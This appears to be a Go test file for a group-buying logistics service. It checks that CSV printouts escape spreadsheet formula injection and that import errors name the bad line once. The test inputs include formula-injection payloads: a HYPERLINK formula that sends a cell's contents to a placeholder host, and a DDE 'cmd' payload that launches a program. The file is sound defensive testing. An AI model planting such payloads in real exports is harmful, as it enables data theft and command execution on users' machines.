package main

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"groupbuy/pickup"
)

// Text a spreadsheet would run as a formula were it written verbatim.
var formulaNames = []string{`=HYPERLINK("http://x/?"&A1,"click")`, `+SUM(1+1)`, `-2+3`, `@A1`}

// TestCSVPrintoutsNeutraliseFormulas names products, points, leaders,
// addresses and the vehicle after formulas, runs the night, and reads every
// CSV printout back: each such cell comes back with a leading apostrophe,
// while numbers (quantities, weights, coordinates) stay numbers.
func TestCSVPrintoutsNeutraliseFormulas(t *testing.T) {
	c := newTestCity(t, 2)
	egg, rice := c.item("EGG"), c.item("RICE")
	// Rename what the printouts print (products and points are saved by
	// SKU and code, so saving again renames them).
	for i, sku := range []string{"EGG", "RICE"} {
		p := map[string]any{"sku": sku, "name": formulaNames[i], "unit": formulaNames[2+i], "weight_g": 900, "volume_ml": 1500,
			"zone": []string{"chilled", "ambient"}[i], "bin": formulaNames[3-i]}
		if r := c.do("POST", "/api/v1/ops/products", c.admin, p); r.Status != http.StatusOK {
			t.Fatalf("product: %d %s", r.Status, r.Body)
		}
	}
	for i, pc := range c.points {
		p := map[string]any{"code": pc.Point.Code, "warehouse_id": c.warehous.ID, "name": formulaNames[i], "address": formulaNames[2+i],
			"lat": pc.Point.Lat, "lng": pc.Point.Lng, "opens": "08:00", "closes": "21:00",
			"leader": map[string]any{"name": formulaNames[3-i], "phone": pc.Leader.Phone}}
		if r := c.do("POST", "/api/v1/ops/pickup-points", c.admin, p); r.Status != http.StatusCreated && r.Status != http.StatusOK {
			t.Fatalf("point: %d %s", r.Status, r.Body)
		}
	}
	c.addVehicleType(map[string]any{"code": "@VAN", "name": "=cmd|' /C calc'!A0", "count": 2, "capacity_g": 1_500_000,
		"capacity_ml": 8_000_000, "shift_start": "05:00", "shift_end": "12:00"})
	for l := range c.leaders {
		body := orderBody(fmt.Sprintf("159200%05d", l), "居民", egg.ID, 2, rice.ID, 1)
		if r := c.do("POST", "/api/v1/leader/orders", c.leaders[l], body, "Idempotency-Key", "csv"); r.Status != http.StatusCreated {
			t.Fatalf("order: %d %s", r.Status, r.Body)
		}
	}
	path := c.wavePath()
	if r := c.do("PUT", path+"/receipts", c.admin, map[string]any{"final": true, "items": []map[string]any{}}); r.Status != http.StatusOK {
		t.Fatalf("receipts: %d %s", r.Status, r.Body)
	}
	runNightToReady(t, c, path)

	seen := map[string]bool{}
	for _, kind := range []string{"pick-list", "sort-sheet", "labels", "route-sheet"} {
		r := c.do("GET", path+"/printouts/"+kind+".csv", c.admin, nil)
		if r.Status != http.StatusOK {
			t.Fatalf("%s: %d %s", kind, r.Status, r.Body)
		}
		rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumber(cell) {
					t.Errorf("%s: column %s holds a formula: %q", kind, rows[0][i], cell)
				}
				if strings.HasPrefix(cell, "'") {
					seen[cell[1:]] = true
				}
			}
		}
	}
	for _, name := range append(formulaNames, "@VAN") {
		if !seen[name] {
			t.Errorf("no printout holds %q as text", name)
		}
	}
}

// isNumber reports whether a cell is a plain decimal number, which a
// spreadsheet reads as the number it is.
func isNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	digits := 0
	for i, r := range s {
		switch {
		case r >= '0' && r <= '9':
			digits++
		case r == '.' && i > 0 && i < len(s)-1:
		default:
			return false
		}
	}
	return digits > 0
}

// TestPointImportNamesTheLineOnce: an import error raised for a row names
// its line once, whichever check raised it.
func TestPointImportNamesTheLineOnce(t *testing.T) {
	c := newTestCity(t, 1)
	header := strings.Join(pickup.PointCSVColumns, ",") + "\n"
	for name, row := range map[string]string{
		// No warehouse while no warehouse has a service area.
		"no warehouse": "TX1,,点,路,31.2,121.5,08:00,21:00,团长,13700003333\n",
		// The phone of a leader who runs another point.
		"leader runs another point": fmt.Sprintf("TX2,%s,点,路,31.2,121.5,08:00,21:00,团长,%s\n", c.warehous.Code, c.points[0].Leader.Phone),
	} {
		r := c.do("POST", "/api/v1/ops/pickup-points/import", c.admin, header+row)
		var env struct{ Error struct{ Message string } }
		r.json(t, &env)
		if r.Status != http.StatusBadRequest || strings.Count(env.Error.Message, "line 2") != 1 ||
			strings.Count(env.Error.Message, "nothing was imported") != 1 {
			t.Errorf("%s: %d %s", name, r.Status, r.Body)
		}
	}
}
